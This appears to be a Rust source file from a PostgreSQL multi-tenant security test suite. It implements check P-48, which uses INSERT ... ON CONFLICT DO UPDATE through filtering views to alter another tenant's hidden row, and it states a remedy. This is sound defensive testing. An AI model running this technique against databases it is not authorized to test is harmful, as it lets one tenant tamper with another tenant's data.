//! P-48: a conflict through a view.

use super::tools::*;

pub(super) const ATTACK: Attack = Attack {
    id: "P-48",
    title: "ON CONFLICT through a view changes rows the view hides",
    severity: High,
    meaning: "CVE-2026-16237: old servers let ON CONFLICT DO UPDATE through a filtering view change rows that the view hides.",
    method: "As A, through every view that the runtime can insert into and that shows one protected table, inserts a row with B's key ON CONFLICT DO UPDATE; then looks as B whether its row changed.",
    remedy: "Install the server's newest minor release (see P-86); revoke INSERT and UPDATE on filtering views.",
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Verdict {
    let mut tally = Tally::default();
    let rows = stage
        .look(&format!(
            "SELECT quote_ident(n.nspname) || '.' || quote_ident(c.relname), b.oid::regclass::text, quote_ident(bn.nspname) || '.' || quote_ident(b.relname) \
             FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace JOIN pg_rewrite w ON w.ev_class = c.oid \
             JOIN LATERAL (SELECT DISTINCT p.refobjid FROM pg_depend p WHERE p.classid = 'pg_rewrite'::regclass AND p.objid = w.oid \
               AND p.refclassid = 'pg_class'::regclass AND p.refobjid <> c.oid) p ON true \
             JOIN pg_class b ON b.oid = p.refobjid JOIN pg_namespace bn ON bn.oid = b.relnamespace \
             WHERE c.relkind = 'v' AND b.oid IN ({}) AND pg_relation_is_updatable(c.oid, false) & 12 = 12 \
             AND EXISTS (SELECT 1 FROM pg_roles r WHERE r.rolname IN ({}) AND has_table_privilege(r.oid, c.oid, 'INSERT') \
               AND has_table_privilege(r.oid, c.oid, 'UPDATE')) ORDER BY 1",
            stage.subject_list(),
            stage.login_list()
        ))
        .await?;
    for row in rows {
        let Some(table) = stage.subjects.iter().find(|s| s.sql == quoted(&row[2])) else { continue };
        let (Some(primary), Some(a), Some(b)) = (&table.structure.primary_key, &table.a, &table.b) else { continue };
        let keys: Option<Vec<_>> = primary.columns.iter().map(|c| Some((c.quoted(), b.values.get(c.as_str())?.clone()))).collect();
        let Some(keys) = keys else { continue };
        let target = keys.iter().map(|(c, _)| c.clone()).collect::<Vec<_>>().join(", ");
        let picks: Vec<String> = keys.iter().map(|(c, v)| format!("{v} AS {c}")).collect();
        let Some(column) = table.idle_column() else { continue };
        let sql = format!(
            "INSERT INTO {view} ({target}, {column}) SELECT {}, t.{column} FROM {} t WHERE {} \
             ON CONFLICT ({target}) DO UPDATE SET {column} = EXCLUDED.{column}",
            picks.join(", "), table.sql, a.is_it, view = row[0]
        );
        stage.as_a.begin(Some(&stage.a)).await?;
        tally.tried();
        let look = format!("SELECT 1 FROM {} t WHERE {} AND pg_catalog.age(t.xmin) <= 0", table.sql, b.is_it);
        let (_, seen) = stage.as_a.attempt_then(&sql, Wire::Simple, &stage.b, &look).await?;
        if seen.is_some_and(|s| s.rows() > 0) {
            tally.broke(&row[0], "tenant B's row was changed through it");
        }
        stage.as_a.end().await?;
    }
    Ok(tally.finish_static("view the runtime can insert into", "no hidden row was changed"))
}

/// The quoted form `Subject` keeps, from the server's.
fn quoted(name: &str) -> String {
    name.parse::<tenantry_model::QualifiedName>().map_or_else(|_| name.to_owned(), |q| q.quoted())
}
